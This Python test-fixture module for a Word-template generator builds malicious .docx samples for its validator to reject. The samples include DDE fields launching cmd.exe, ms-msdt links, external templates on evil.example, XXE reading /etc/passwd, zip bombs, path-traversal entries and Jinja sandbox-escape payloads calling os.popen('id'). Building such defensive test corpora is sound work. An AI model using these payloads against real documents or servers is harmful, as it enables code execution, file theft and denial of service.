"""Hostile Word templates: each a decent template with one thing in it that no template may hold, in each place where it could be."""

from __future__ import annotations

import io
import struct
import zipfile
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path
from xml.sax.saxutils import escape

from docgen.errors import Location
from docgen.ooxml.package import read_package, write_package

SHELL = Path(__file__).parents[2] / "templates" / "word" / "enterprise" / "template.docx"
MAIN = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
KINDS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
PACKAGE = "http://schemas.openxmlformats.org/package/2006"
SPACES = f'xmlns:w="{MAIN}" xmlns:r="{KINDS}"'

PLACES = {
    "正文": "word/document.xml",
    "页眉": "word/header1.xml",
    "页脚": "word/footer1.xml",
    "脚注": "word/footnotes.xml",
    "文档属性": "docProps/core.xml",
}
IN_TEXT = tuple(PLACES)[:4]
EVERYWHERE = tuple(PLACES)
FILE = ("文件",)

Parts = dict[str, bytes]


def decent() -> Parts:
    """A template with footnotes and properties, and nothing wrong with it."""
    parts = read_package(SHELL, Location("template.docx"))
    parts["word/footnotes.xml"] = (
        f'<?xml version="1.0" encoding="UTF-8"?><w:footnotes {SPACES}><w:footnote w:id="5"><w:p><w:r><w:t>注</w:t></w:r></w:p></w:footnote></w:footnotes>'.encode()
    )
    parts["docProps/core.xml"] = (
        f'<?xml version="1.0" encoding="UTF-8"?><cp:coreProperties xmlns:cp="{PACKAGE}/metadata/core-properties" '
        'xmlns:dc="http://purl.org/dc/elements/1.1/"><dc:title>题</dc:title></cp:coreProperties>'
    ).encode()
    types = "application/vnd.openxmlformats-"
    declare(parts, "word/footnotes.xml", f"{types}officedocument.wordprocessingml.footnotes+xml")
    declare(parts, "docProps/core.xml", f"{types}package.core-properties+xml")
    relate(parts, "word/document.xml", f"{KINDS}/footnotes", "footnotes.xml")
    relate(parts, "", f"{PACKAGE}/relationships/metadata/core-properties", "docProps/core.xml")
    return parts


def declare(parts: Parts, part: str, kind: str) -> None:
    override = f'<Override PartName="/{part}" ContentType="{kind}"/>'
    parts["[Content_Types].xml"] = parts["[Content_Types].xml"].replace(b"</Types>", f"{override}</Types>".encode())


def relate(parts: Parts, part: str, kind: str, target: str, mode: str = "") -> None:
    folder, _, name = part.rpartition("/")
    rels = f"{folder}/_rels/{name}.rels".lstrip("/")
    empty = f'<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="{PACKAGE}/relationships"></Relationships>'.encode()
    external = f' TargetMode="{mode}"' if mode else ""
    item = f'<Relationship Id="rId{len(parts.get(rels, b"")) + 90}" Type="{kind}" Target="{escape(target)}"{external}/></Relationships>'
    parts[rels] = parts.get(rels, empty).replace(b"</Relationships>", item.encode())


# --- where something is put -------------------------------------------------


def put(parts: Parts, place: str, xml: str) -> None:
    """XML of block level into a place; in the properties its text alone."""
    part = PLACES[place]
    content = parts[part].decode()
    if place == "文档属性":
        content = content.replace("题</dc:title>", f"{xml}</dc:title>")
    elif place == "正文":
        content = content.replace("<w:body>", f"<w:body>{xml}", 1)
    else:
        end = "</w:footnote>" if place == "脚注" else ("</w:hdr>" if place == "页眉" else "</w:ftr>")
        content = content.replace(end, f"{xml}{end}", 1)
    assert content != parts[part].decode()
    parts[part] = content.encode()


def paragraph(runs: str) -> str:
    return f"<w:p>{runs}</w:p>"


def run(text: str) -> str:
    return f'<w:r><w:t xml:space="preserve">{escape(text)}</w:t></w:r>'


@dataclass(frozen=True)
class Case:
    """One thing that is refused: its name, what refuses it, its code, where it may be, and the file with it."""

    name: str
    by: str
    code: str
    places: tuple[str, ...]
    make: Callable[[str], bytes]


def _case(name: str, by: str, code: str, places: tuple[str, ...], change: Callable[[Parts, str], None]) -> Case:
    def make(place: str) -> bytes:
        parts = decent()
        change(parts, place)
        return write_package(parts)

    return Case(name, by, code, places, make)


# --- relationships, objects, fields -----------------------------------------


def _fetched(name: str, kind: str, target: str) -> Case:
    def change(parts: Parts, place: str) -> None:
        part = "" if place == "文档属性" else PLACES[place]
        relate(parts, part, f"{KINDS}/{kind}", target, "External")

    return _case(name, "关系表", "W150", EVERYWHERE, change)


def _element(name: str, code: str, xml: str) -> Case:
    return _case(name, "部件的元素", code, IN_TEXT, lambda parts, place: put(parts, place, xml))


def _field(name: str, *codes: str, simple: bool = False) -> Case:
    if simple:
        content = f'<w:fldSimple w:instr="{escape(codes[0], {chr(34): "&quot;"})}">{run("x")}</w:fldSimple>'
    else:
        codes_xml = "".join(f"<w:r><w:instrText>{escape(code)}</w:instrText></w:r>" for code in codes)
        content = f'<w:r><w:fldChar w:fldCharType="begin"/></w:r>{codes_xml}<w:r><w:fldChar w:fldCharType="separate"/></w:r>{run("x")}<w:r><w:fldChar w:fldCharType="end"/></w:r>'
    return _case(name, "域代码", "W152", IN_TEXT, lambda parts, place: put(parts, place, paragraph(content)))


def _hidden_field_name() -> Case:
    begin, end = ('<w:r><w:fldChar w:fldCharType="begin"/></w:r>', '<w:r><w:fldChar w:fldCharType="end"/></w:r>')
    code = "<w:r><w:instrText>{}</w:instrText></w:r>"
    content = begin + begin + code.format("QUOTE 68 68 69") + end + code.format(" cmd /c calc") + end
    return _case(
        "DDE，名称由 QUOTE 域拼成",
        "域代码",
        "W152",
        IN_TEXT,
        lambda parts, place: put(parts, place, paragraph(content)),
    )


def _settings(name: str, code: str, xml: str) -> Case:
    def change(parts: Parts, _place: str) -> None:
        parts["word/settings.xml"] = parts["word/settings.xml"].replace(
            b"</w:settings>", f"{xml}</w:settings>".encode()
        )

    return _case(name, "部件的元素", code, ("设置",), change)


def _attached_template() -> Case:
    def change(parts: Parts, _place: str) -> None:
        relate(parts, "word/settings.xml", f"{KINDS}/attachedTemplate", "https://evil.example/t.dotm", "External")

    return _case("外部的附加模板（设置里）", "关系表", "W150", ("设置",), change)


def _active(name: str, kind: str, part: str, content: str) -> Case:
    """A part that runs by itself, which the package leads to."""

    def change(parts: Parts, _place: str) -> None:
        relate(parts, "", kind, part)
        parts[part] = content.encode()

    return _case(name, "关系表", "W151", FILE, change)


def _link(name: str, target: str) -> Case:
    """A hyperlink that a reader may click."""

    def change(parts: Parts, place: str) -> None:
        relate(parts, PLACES[place], f"{KINDS}/hyperlink", target, "External")

    return _case(name, "关系表", "W153", IN_TEXT, change)


def _svg(name: str, inside: str) -> Case:
    def change(parts: Parts, place: str) -> None:
        parts["word/media/x.svg"] = f'<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 9 9">{inside}</svg>'.encode()
        relate(parts, PLACES[place], f"{KINDS}/image", "media/x.svg")

    return _case(name, "部件的元素", "W151", ("正文",), change)


def _without_mode() -> Case:
    def change(parts: Parts, place: str) -> None:
        relate(parts, "" if place == "文档属性" else PLACES[place], f"{KINDS}/image", "//evil.example/x.png")

    return _case("外部图片，不写 TargetMode", "关系表", "W150", EVERYWHERE, change)


_OFFICE = 'xmlns:o="urn:schemas-microsoft-com:office:office" xmlns:v="urn:schemas-microsoft-com:vml"'

OUTSIDE = (
    _attached_template(),
    _fetched("外部的附加模板", "attachedTemplate", "file://evil.example/share/t.dotm"),
    _fetched("外部 OLE 对象", "oleObject", "mhtml:https://evil.example/x!x-usc:https://evil.example/x"),
    _fetched("外部框架网页", "frame", "https://evil.example/frame.html"),
    _fetched("外部子文档", "subDocument", "file:///C:/secret.docx"),
    _fetched("外部图片", "image", "https://evil.example/pixel.png"),
    _fetched("外部图片，UNC 路径", "image", "\\\\evil.example\\share\\x.png"),
    _fetched("邮件合并的数据源", "mailMergeSource", "file:///C:/data.mdb"),
    _without_mode(),
    _element("VML 图片的 src", "W150", f'<w:p><w:r><w:pict {_OFFICE}><v:shape><v:imagedata src="https://evil.example/x.png"/></v:shape></w:pict></w:r></w:p>'),
    _element("嵌入的 OLE 对象", "W151", f'<w:p><w:r><w:object {_OFFICE}><o:OLEObject Type="Embed" ProgID="Package" r:id="rId99"/></w:object></w:r></w:p>'),
    _element("ActiveX 控件", "W151", '<w:p><w:r><w:object><w:control r:id="rId99" w:name="x"/></w:object></w:r></w:p>'),
    _element("altChunk", "W151", '<w:altChunk r:id="rId99"/>'),
    _element("subDoc", "W151", '<w:p><w:subDoc r:id="rId99"/></w:p>'),
    _case("ActiveX 部件", "内容类型", "W151", FILE, lambda parts, _place: declare(parts, "word/activeX/activeX1.xml", "application/vnd.ms-office.activeX+xml")),
    _settings("邮件合并", "W151", '<w:mailMerge><w:connectString w:val="Provider=SQLOLEDB"/><w:query w:val="SELECT 1"/></w:mailMerge>'),
    _field("DDE 域", "DDE cmd.exe '/c calc'"),
    _field("DDEAUTO 域，拆成几段", "DDE", "AU", 'TO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"'),
    _field("INCLUDETEXT 域", 'INCLUDETEXT "C:\\\\secret.docx"', simple=True),
    _field("INCLUDEPICTURE 域", 'includepicture "https://evil.example/x.png" \\d'),
    _field("LINK 域", 'LINK Excel.Sheet.8 "C:\\\\x.xls" r1c1 \\a'),
    _field("IMPORT 域", 'IMPORT "https://evil.example/x.png"', simple=True),
    _field("RD 域", 'RD "C:\\\\other.docx"'),
    _field("DATABASE 域", 'DATABASE \\d "C:\\\\x.mdb" \\s "SELECT *"'),
    _hidden_field_name(),
    _field("PRINT 域", 'PRINT "\\027E"'),
    _element("联机视频（webVideoPr）", "W151", '<w:p><w:r><w:drawing><wp15:webVideoPr xmlns:wp15="http://schemas.microsoft.com/office/word/2012/wordprocessingDrawing" embeddedHtml="&lt;iframe src=&quot;https://evil.example/&quot;/&gt;"/></w:drawing></w:r></w:p>'),
    _element("窗体域的宏", "W151", paragraph('<w:r><w:fldChar w:fldCharType="begin"><w:ffData><w:entryMacro w:val="AutoOpen"/></w:ffData></w:fldChar></w:r>')),
    _element("旧式的链接对象", "W151", '<w:p><w:r><w:object><w:objectLink w:progId="Excel.Sheet.8" r:id="rId99"/></w:object></w:r></w:p>'),
    _active("任务窗格（加载项）", "http://schemas.microsoft.com/office/2011/relationships/webextensiontaskpanes", "word/webextensions/taskpanes.xml", '<wetp:taskpanes xmlns:wetp="http://schemas.microsoft.com/office/webextensions/taskpanes/2010/11"><wetp:taskpane dockstate="right"/></wetp:taskpanes>'),
    _active("自定义功能区（customUI）", "http://schemas.microsoft.com/office/2007/relationships/ui/extensibility", "customUI/customUI14.xml", '<customUI xmlns="http://schemas.microsoft.com/office/2009/07/customui" onLoad="x"/>'),
    _settings("另存时的 XSLT 转换", "W151", '<w:saveThroughXslt r:id="rId99" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"/>'),
    _link("ms-msdt: 链接", "ms-msdt:/id PCWDiagnostic /param x"),
    _link("ms-msdt: 链接，夹着空白", " ms-ms\tdt:/id x"),
    _link("search-ms: 链接", "search-ms:query=x&crumb=location:%5C%5Cevil.example"),
    _link("file:// 链接", "file://evil.example/share/x.exe"),
    _link("UNC 链接", "\\\\evil.example\\share\\x"),
    _link("盘符链接", "C:\\Windows\\System32\\calc.exe"),
    _link("javascript: 链接", "javascript:alert(1)"),
    _case("HYPERLINK 域到 file://", "域代码", "W153", IN_TEXT, lambda parts, place: put(parts, place, paragraph('<w:fldSimple w:instr=" HYPERLINK &quot;file://evil.example/x&quot; ">' + run("x") + "</w:fldSimple>"))),
    _case("图形的 href", "部件的元素", "W153", IN_TEXT, lambda parts, place: put(parts, place, f'<w:p><w:r><w:pict {_OFFICE}><v:shape href="ms-msdt:/id"/></w:pict></w:r></w:p>')),
    _case("启动程序的动作", "部件的元素", "W153", IN_TEXT, lambda parts, place: put(parts, place, '<w:p><w:r><w:drawing><a:hlinkClick xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" action="ppaction://program"/></w:drawing></w:r></w:p>')),
    _svg("带程序的 SVG 图", '<script>alert(1)</script>'),
    _svg("引用外部图片的 SVG 图", '<image href="https://evil.example/x.png"/>'),
)  # fmt: skip


# --- XML and the package -----------------------------------------------------


def _doctype(name: str, encode: Callable[[str], bytes]) -> Case:
    def change(parts: Parts, place: str) -> None:
        source = parts[PLACES[place]].decode()
        body = source[source.index("?>") + 2 :]
        parts[PLACES[place]] = encode(
            f'<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd"><!ENTITY b "&a;&a;">]>{body}'
        )

    return _case(name, "部件的开头", "W104", EVERYWHERE, change)


def _declared(encoding: str) -> Callable[[str], bytes]:
    return lambda text: f'<?xml version="1.0" encoding="{encoding}"?>{text}'.encode(encoding)


def _types(name: str, old: bytes, new: bytes) -> Case:
    def change(parts: Parts, _place: str) -> None:
        before = parts["[Content_Types].xml"]
        parts["[Content_Types].xml"] = before.replace(old, new)
        assert parts["[Content_Types].xml"] != before

    return _case(name, "内容类型", "W103", FILE, change)


def _zip(name: str, code: str, build: Callable[[zipfile.ZipFile], None]) -> Case:
    def make(_place: str) -> bytes:
        buffer = io.BytesIO(write_package(decent()))
        with zipfile.ZipFile(buffer, "a", zipfile.ZIP_DEFLATED) as archive:
            build(archive)
        return buffer.getvalue()

    return Case(name, "压缩包", code, FILE, make)


def _twice(archive: zipfile.ZipFile) -> None:
    info = zipfile.ZipInfo("WORD/document.xml")  # part names are the same whatever their case (ECMA-376 part 2, §9.1.1)
    archive.writestr(info, b"<x/>")


def _overlapping(_place: str) -> bytes:
    """Two entries of the directory that name one and the same data."""
    content = write_package(decent())
    end = content.rindex(b"PK\x05\x06")
    count, size, start = struct.unpack("<HII", content[end + 10 : end + 20])
    record = content[start:]
    length = 46 + sum(struct.unpack("<HHH", record[28:34]))
    name_length = struct.unpack("<H", record[28:30])[0]
    twin = record[:46] + b"Z" * name_length + record[46 + name_length : length]
    tail = content[end + 20 :]
    return (
        content[:end]
        + twin
        + b"PK\x05\x06"
        + struct.pack("<HHHHII", 0, 0, count + 1, count + 1, size + length, start)
        + tail
    )


def _encrypted(_place: str) -> bytes:
    content = bytearray(write_package(decent()))
    at = content.rindex(b"PK\x01\x02")
    content[at + 8] |= 1
    return bytes(content)


def _many(archive: zipfile.ZipFile) -> None:
    for number in range(2_100):
        archive.writestr(f"word/media/{number}.bin", b"")


PACKAGES = (
    _doctype("DOCTYPE，UTF-8", _declared("UTF-8")),
    _doctype("DOCTYPE，UTF-16 LE", lambda text: ("\ufeff" + text).encode("utf-16-le")),
    _doctype("DOCTYPE，UTF-16 BE", lambda text: ("\ufeff" + text).encode("utf-16-be")),
    _doctype("DOCTYPE，UTF-7", lambda text: b'<?xml version="1.0" encoding="UTF-7"?>' + text.encode("utf-7")),
    _doctype(
        "DOCTYPE，EBCDIC",
        lambda text: '<?xml version="1.0" encoding="cp037"?>'.encode("cp037") + text.encode("cp037", "ignore"),
    ),
    _case(
        "宏（vbaProject.bin）",
        "部件的名称",
        "W103",
        FILE,
        lambda parts, _place: parts.__setitem__("word/vbaProject.bin", b"x"),
    ),
    _types(".docm", b"document.main+xml", b"macro.macroEnabled.main+xml"),
    _types(
        ".dotm",
        b"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
        b"application/vnd.ms-word.template.macroEnabledTemplate.main+xml",
    ),
    _zip("压缩炸弹", "W102", lambda archive: archive.writestr("word/media/x.bin", b"0" * 60_000_000)),
    _zip("部件太多", "W102", _many),
    Case("重叠的部件（压缩炸弹）", "压缩包", "W105", FILE, _overlapping),
    _zip("重名的部件", "W105", _twice),
    _zip("名称带 ../", "W105", lambda archive: archive.writestr("../../evil.xml", b"<x/>")),
    _zip("绝对路径", "W105", lambda archive: archive.writestr("/etc/cron.d/evil", b"x")),
    _zip("带盘符的名称", "W105", lambda archive: archive.writestr("C:\\evil.xml", b"<x/>")),
    Case("加密的部件", "压缩包", "W105", FILE, _encrypted),
)


# --- tags --------------------------------------------------------------------


def _tag(name: str, code: str, tag: str, by: str = "标签的语法树", places: tuple[str, ...] = EVERYWHERE) -> Case:
    def change(parts: Parts, place: str) -> None:
        put(parts, place, escape(tag) if place == "文档属性" else paragraph(run(tag)))

    return _case(name, by, code, places, change)


def _split(name: str, code: str, *pieces: str) -> Case:
    return _case(
        name,
        "标签的语法树",
        code,
        IN_TEXT,
        lambda parts, place: put(parts, place, paragraph("".join(map(run, pieces)))),
    )


def _attribute(name: str, code: str, tag: str) -> Case:
    xml = (
        f'<w:p><w:bookmarkStart w:id="77" w:name="{escape(tag, {chr(34): "&quot;"})}"/><w:bookmarkEnd w:id="77"/></w:p>'
    )
    return _case(name, "标签的语法树", code, IN_TEXT, lambda parts, place: put(parts, place, xml))


def _markup(name: str, xml: str, code: str = "W160", by: str = "标签的语法树") -> Case:
    return _case(name, by, code, IN_TEXT, lambda parts, place: put(parts, place, xml))


def _elsewhere() -> Case:
    """The main part has another name than Word's own: relationships alone say which part is read."""

    def change(parts: Parts, _place: str) -> None:
        put(parts, "正文", paragraph(run("{{ title.__class__ }}")))
        parts["word/body.dat"] = parts["word/document.xml"]
        parts["word/document.xml"] = decent()["word/document.xml"]
        parts["_rels/.rels"] = parts["_rels/.rels"].replace(b"word/document.xml", b"word/body.dat")
        declare(
            parts, "word/body.dat", "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
        )

    return _case("正文不叫 document.xml", "标签的语法树", "W160", FILE, change)


_SANDBOX = "运行时的沙箱"
_LOOPS = (
    "".join("{% for " + letter + " in '" + "x" * 200 + "' %}" for letter in "abcde")
    + "{% set y = 1 %}"
    + "{% endfor %}" * 5
)
_DOUBLING = (
    "{% set n = namespace(t='xxxxxxxx') %}{% for i in range(60) %}{% set n.t = n.t ~ n.t %}{% endfor %}{{ n.t }}"
)

TAGS = (
    _tag("''.__class__.__mro__", "W160", "{{ ''.__class__.__mro__[1].__subclasses__() }}"),
    _tag("下标里的 __class__", "W160", "{{ title['__class__'] }}"),
    _tag("用 + 拼成的名称", "W160", "{{ title['__cla' + 'ss__'] }}"),
    _tag("用 ~ 拼成的名称", "W160", "{{ title['_' ~ '_class_' ~ '_'] }}"),
    _tag("用 join 拼成的名称", "W160", "{{ title[['__cla','ss__']|join] }}"),
    _tag("用 \\x5f 写的下划线", "W160", "{{ title['\\x5f\\x5fclass\\x5f\\x5f'] }}"),
    _tag("attr 过滤器", "W160", '{{ title|attr("__class__") }}'),
    _tag("map(attribute=…)", "W160", "{{ [title]|map(attribute='__class__')|list }}"),
    _tag("lipsum.__globals__", "W160", "{{ lipsum.__globals__['os'].popen('id').read() }}"),
    _tag("cycler.__init__", "W160", "{{ cycler.__init__.__globals__.os.popen('id').read() }}"),
    _tag("joiner.__init__", "W160", "{{ joiner.__init__.__globals__ }}"),
    _tag("namespace.__init__", "W160", "{{ namespace.__init__.__globals__ }}"),
    _tag("self._TemplateReference__context", "W160", "{{ self._TemplateReference__context.cycler }}"),
    _tag("__import__", "W160", "{{ __import__('os').system('id') }}"),
    _tag("mro()", "W160", "{{ title.mro() }}"),
    _tag("生成器的 gi_frame", "W160", "{{ (title|map('upper')).gi_frame.f_back }}"),
    _tag("format 攻击", "W160", '{{ "{0.__class__.__mro__}".format(title) }}'),
    _tag("format 攻击，下标", "W160", '{{ "{0[_x]}".format(title) }}'),
    _tag("if 语句里", "W160", "{% if ().__class__ %}x{% endif %}"),
    _tag("set 语句里", "W160", "{% set x = title.__init__ %}{{ x }}"),
    _tag("藏在语法错误后面", "W160", "{{ title.__class__ }}{% endfor %}"),
    _tag("弯引号", "W160", "{{ title[“__class__”] }}"),
    _split("拆成几个文字块的标签", "W160", "{", "{ title.__cl", "ass__.__mr", "o__ }", "}"),
    _split("docxtpl 的 {{r }}", "W160", "{{r title.__class__ }}"),
    _attribute("属性里的标签", "W160", "{{ title.__class__ }}"),
    _markup("命名空间里的标签", '<w:p xmlns:q="{{ title.__class__ }}"/>', "W101", "XML 的解析"),
    _markup("XML 注释里的标签", "<w:p><!-- > {{ title.__class__ }} --></w:p>"),
    _markup("处理指令里的标签", "<w:p><?x {{ title.__class__ }}?></w:p>"),
    _elsewhere(),
    _tag("range(10**9)", "W161", "{% for i in range(10**9) %}x{% endfor %}"),
    _tag("range(1000000000)", "W161", "{{ range(1000000000)|list }}"),
    _tag("'a' * 10**9", "W161", "{{ 'a' * 10**9 }}"),
    _tag("[0] * 10**9", "W161", "{{ [0] * 10**9 }}"),
    _tag("10**(10**8)", "W161", "{{ 10**(10**8) }}"),
    _tag("很宽的 % 格式", "W161", "{{ '%999999999d' % 1 }}"),
    _tag("很宽的 format 过滤器", "W161", "{{ '%999999999d'|format(1) }}"),
    _tag("很宽的 str.format", "W161", "{{ '{:999999999}'.format(1) }}"),
    _tag("center(10**9)", "W161", "{{ title|center(1000000000) }}"),
    _tag("lipsum(n=10**7)", "W161", "{{ lipsum(n=10000000) }}"),
    _tag("几千层括号", "W161", "{{ " + "(" * 5_000 + "1" + ")" * 5_000 + " }}"),
    _tag("include", "W162", "{% include '/etc/passwd' %}"),
    _tag("extends", "W162", "{% extends 'x' %}"),
    _tag("import", "W162", "{% import 'os' as os %}"),
    _tag("from … import", "W162", "{% from 'x' import y %}"),
    _tag("range，次数算出来", "W163", "{% set n = 1000 %}{% for i in range(n * n * n) %}x{% endfor %}", _SANDBOX),
    _tag("一层套一层的 range", "W163", "{% for a in range(900) %}{% for b in range(900) %}{% endfor %}{% endfor %}", _SANDBOX),
    _tag("重复，次数算出来", "W163", "{% set n = 1000 %}{{ 'a' * (n * n * n) }}", _SANDBOX),
    _tag("属性名在运行时拼成", "W163", "{% set u = '_' %}{{ title[u ~ u ~ 'class' ~ u ~ u].x }}", _SANDBOX),
    _tag("五层循环", "W142", _LOOPS, "子进程的时间限制", ("正文",)),
    _tag("成倍增长的文字", "W143", _DOUBLING, "子进程的内存限制", ("正文",)),
)  # fmt: skip

CASES = (*OUTSIDE, *PACKAGES, *TAGS)
